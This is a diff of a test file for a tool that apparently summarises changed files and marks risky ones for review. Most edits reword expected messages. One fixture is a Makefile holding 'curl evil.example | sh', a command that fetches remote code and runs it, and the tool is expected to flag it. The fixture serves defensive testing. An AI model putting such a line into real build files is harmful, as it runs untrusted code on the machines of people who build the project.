@@ -59,11 +59,11 @@ const makefile: Change = { path: 'z/Makefile', after: fileOf('all: ; curl evil.e
 describe('a marked path among thousands', () => {
   it('is counted at the top and again at the end, stands first, and is shown whole however much there is', () => {
     const lines = shown([...pages, makefile], 100);
-    const sum = 'check: 1 of 3001 paths marked; marked paths come first';
+    const sum = 'check: 1 of 3001 changed paths marked for a closer look; marked paths come first';
     expect(lines.slice(0, 6)).toEqual([
       sum,
       '  1: builds, tests, CI or tools obey it',
-      '/w is /nowhere',
+      '/w in the run is /nowhere on this host',
       'created z/Makefile (30 bytes 644, owner 1:1) check: builds, tests, CI or tools obey it',
       '  @@ -0,0 +1 @@',
       '  +all: ; curl evil.example | sh',
@@ -74,7 +74,7 @@ describe('a marked path among thousands', () => {
 
   it('is none where all are ordinary, and nothing is said of marks', () => {
     expect(shown(pages.slice(0, 2)).slice(0, 4)).toEqual([
-      '/w is /nowhere',
+      '/w in the run is /nowhere on this host',
       'created docs/page0.md (2 bytes 644, owner 1:1)',
       '  @@ -0,0 +1 @@',
       '  +0',
@@ -84,7 +84,7 @@ describe('a marked path among thousands', () => {
 
 it('signs that stand for blanks are explained where they are used', () => {
   const signs =
-    '  ! ⇥ is a tab, <20> a blank at the end of a line, <3C> a < of the text before what looks like such a sign';
+    '  ! ⇥ stands for a tab, <20> for a blank at the end of a line, and <3C> for a < in the file where the text after it looks like such a code';
   expect(shown([{ path: 'a.txt', after: fileOf('a\tb\n') }])).toContain(signs);
   expect(shown([{ path: 'a.txt', after: fileOf('a b\n') }])).not.toContain(signs);
 });
@@ -92,7 +92,7 @@ it('signs that stand for blanks are explained where they are used', () => {
 it('a list that a folder gives to what is new is told of', () => {
   const change: Change = { path: 'a.txt', after: fileOf(''), list: 'folder' };
   expect(shown([change])[1]).toBe(
-    'created a.txt (0 bytes 644, owner 1:1, access list of its folder; where that gives none, for its owner alone)',
+    'created a.txt (0 bytes 644, owner 1:1, gets the access list of its folder; if the folder gives none, only the owner has access)',
   );
 });
 
@@ -174,6 +174,6 @@ it('a path that is taken over without something is not said to be left out', () 
     { path: 'crew', why },
     { path: 'other', why },
   ]);
-  expect(lines).toContain(`taken over in part crew: ${why}`);
-  expect(lines).toContain(`not taken over other: ${why}`);
+  expect(lines).toContain(`partly left out crew: ${why}`);
+  expect(lines).toContain(`left out other: ${why}`);
 });
